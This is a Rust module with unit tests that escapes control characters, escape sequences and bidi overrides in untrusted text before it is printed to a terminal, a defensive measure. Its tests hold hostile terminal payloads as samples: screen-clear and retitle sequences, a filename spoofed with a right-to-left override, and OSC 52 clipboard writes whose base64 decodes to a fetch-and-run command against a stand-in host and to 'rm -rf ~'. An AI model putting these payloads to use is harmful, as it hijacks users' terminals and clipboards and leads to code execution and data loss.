//! Text that others wrote, made safe to print on the user's terminal.
//!
//! Why: an agent's log lines and output, a publisher's agent name, description and tags, and the
//! error messages that quote them (GraphQL errors, RPC revert texts) are chosen by someone other
//! than the person running `nexus`. Printed raw, `ESC[2J` clears their screen so a fake result can
//! follow, `ESC]0;…BEL` retitles the window, `ESC]52;c;…BEL` (OSC 52) writes their clipboard, and
//! a bidi override (U+202E) makes `exe.txt` read as `txt.exe`. So everything untrusted goes
//! through [`Untrusted`] on its way to stdout or stderr, and each print site shows what is
//! untrusted.
//!
//! What is neutralised ([`is_unsafe`]):
//! - C0 controls U+0000–U+001F except newline (U+000A) and tab (U+0009): ESC, BEL, CR (which
//!   can overwrite a line), backspace, ...;
//! - DEL (U+007F) and the C1 controls U+0080–U+009F (U+009B is a one-character CSI, U+009D an
//!   OSC, on terminals that honour C1);
//! - the bidi embeddings and overrides U+202A–U+202E, the isolates U+2066–U+2069, and the
//!   implicit marks U+200E (LRM), U+200F (RLM) and U+061C (ALM): the "Trojan Source" set, which
//!   reorders what is displayed without changing the bytes.
//!
//! The escape form, one for all of them: `\u{X}`, the code point in lowercase hex without
//! leading zeros, as Rust writes it (`ESC[2J` is shown as `\u{1b}[2J`, U+202E as `\u{202e}`).
//! Nothing is dropped, so a reader sees that something was attempted. Everything else passes
//! through unchanged: newlines and tabs, and any other UTF-8 text (accents, CJK, emoji). The
//! rendering is for reading, not reversible: a literal backslash is not escaped, so an agent
//! can print text that merely looks like an escape, which is harmless.
//!
//! Machine-readable output: `serde_json` already writes C0 controls in strings as `\uXXXX` (or
//! `\n`, `\t`, ...), but not DEL, C1 or the bidi characters; [`json_for_terminal`] escapes those
//! too, as JSON `\uXXXX` escapes, so the printed document is still valid JSON with the same
//! value.

use std::fmt::{self, Write};

/// A value someone else wrote (an agent, a publisher, a server quoting them), printed with the
/// unsafe characters of [`is_unsafe`] made visible. Wraps anything `Display`: `&str`, `String`,
/// an `anyhow::Error` (its `{:#}` chain is kept: the alternate flag is passed through).
pub struct Untrusted<T>(pub T);

impl<T: fmt::Display> fmt::Display for Untrusted<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut out = Neutralise(f);
        // The wrapped value formats into the escaping writer, so no raw text reaches `f`.
        if out.0.alternate() { write!(out, "{:#}", self.0) } else { write!(out, "{}", self.0) }
    }
}

/// A `fmt::Write` that escapes unsafe characters on their way to the formatter.
struct Neutralise<'a, 'b>(&'a mut fmt::Formatter<'b>);

impl Write for Neutralise<'_, '_> {
    fn write_str(&mut self, s: &str) -> fmt::Result {
        let mut clean = 0;
        for (i, c) in s.char_indices() {
            if is_unsafe(c) {
                self.0.write_str(&s[clean..i])?;
                write!(self.0, "\\u{{{:x}}}", c as u32)?;
                clean = i + c.len_utf8();
            }
        }
        self.0.write_str(&s[clean..])
    }
}

/// Whether `c` must not reach a terminal as it is (see the module documentation).
pub fn is_unsafe(c: char) -> bool {
    match c {
        '\n' | '\t' => false,
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}' => true,
        '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{61c}' => true,
        _ => false,
    }
}

/// `s` neutralised, as an owned string (for table cells, which are padded after escaping so the
/// columns line up with what is shown).
pub fn clean(s: &str) -> String {
    Untrusted(s).to_string()
}

/// `value` pretty-printed as JSON that is safe on a terminal and still the same JSON value:
/// `serde_json` escapes C0 controls; DEL, C1 and the bidi characters are escaped here as
/// `\uXXXX`. They can only occur inside string literals (JSON's own syntax is ASCII), where
/// the escape means the same character.
pub fn json_for_terminal(value: &serde_json::Value) -> String {
    let text = serde_json::to_string_pretty(value).unwrap_or_else(|_| value.to_string());
    if !text.chars().any(is_unsafe) {
        return text;
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if is_unsafe(c) {
            // Every unsafe character is in the Basic Multilingual Plane: one \uXXXX escape.
            let _ = write!(out, "\\u{:04x}", c as u32);
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escape_sequences_from_the_report_are_shown_not_sent() {
        // Clear screen, window title, OSC 52 clipboard write: exactly the hostile agent's lines.
        assert_eq!(Untrusted("\x1b[2Jdone: 42").to_string(), "\\u{1b}[2Jdone: 42");
        assert_eq!(Untrusted("\x1b]0;pwned\x07").to_string(), "\\u{1b}]0;pwned\\u{7}");
        assert_eq!(
            Untrusted("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07").to_string(),
            "\\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}"
        );
    }

    #[test]
    fn c1_del_cr_and_bidi_are_escaped() {
        // U+009B is a one-character CSI: `\u{9b}2J` clears the screen on terminals honouring C1.
        assert_eq!(Untrusted("a\u{9b}2Jb").to_string(), "a\\u{9b}2Jb");
        assert_eq!(Untrusted("\u{80}\u{9f}\u{7f}").to_string(), "\\u{80}\\u{9f}\\u{7f}");
        assert_eq!(Untrusted("ok\rFAKE").to_string(), "ok\\u{d}FAKE");
        assert_eq!(Untrusted("\0\x08").to_string(), "\\u{0}\\u{8}");
        // Right-to-left override: `report\u{202e}fdp.exe` would display as `reportexe.pdf`.
        assert_eq!(Untrusted("report\u{202e}fdp.exe").to_string(), "report\\u{202e}fdp.exe");
        for c in ['\u{202a}', '\u{202d}', '\u{2066}', '\u{2069}', '\u{200e}', '\u{200f}', '\u{61c}'] {
            assert_eq!(Untrusted(c.to_string()).to_string(), format!("\\u{{{:x}}}", c as u32));
        }
    }

    #[test]
    fn newline_tab_and_multibyte_text_are_kept() {
        let text = "line one\n\tindented: café, 日本語, 🦀, Ω, non-breaking\u{a0}space, \u{200f}";
        let shown = Untrusted(text).to_string();
        assert!(shown.starts_with("line one\n\tindented: café, 日本語, 🦀, Ω, non-breaking\u{a0}space, "));
        // ... the trailing U+200F (RLM) is the only change.
        assert!(shown.ends_with("\\u{200f}"), "{shown}");
        assert_eq!(Untrusted("plain").to_string(), "plain");
        assert_eq!(clean("naïve\u{1b}"), "naïve\\u{1b}");
    }

    #[test]
    fn wraps_errors_with_their_chain() {
        let e = anyhow::anyhow!("agent \x1b]0;x\x07 said no").context("purchase");
        assert_eq!(format!("{:#}", Untrusted(&e)), "purchase: agent \\u{1b}]0;x\\u{7} said no");
        assert_eq!(format!("{}", Untrusted(&e)), "purchase");
    }

    #[test]
    fn json_stays_the_same_value_without_raw_controls() {
        let v = serde_json::json!({
            "summary": "\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07 all good",
            "c1": "\u{9b}31m",
            "bidi": "\u{202e}txt.exe",
            "del": "\u{7f}",
            "kept": "line\nnext\ttab é 日本 🦀",
        });
        let text = json_for_terminal(&v);
        assert!(!text.chars().any(is_unsafe), "{text}");
        assert!(text.contains(r"\u001b[2J"), "{text}");
        assert!(text.contains(r"\u009b31m") && text.contains(r"\u202etxt.exe") && text.contains(r"\u007f"), "{text}");
        assert!(text.contains("é 日本 🦀"), "{text}");
        assert_eq!(serde_json::from_str::<serde_json::Value>(&text).expect("valid JSON"), v);
        // serde_json on its own leaves C1, DEL and bidi raw: this is why the second pass exists.
        let plain = serde_json::to_string_pretty(&v).expect("json");
        assert!(plain.contains('\u{9b}') && plain.contains('\u{202e}') && plain.contains('\u{7f}'));
        assert!(!plain.contains('\x1b'));
    }
}
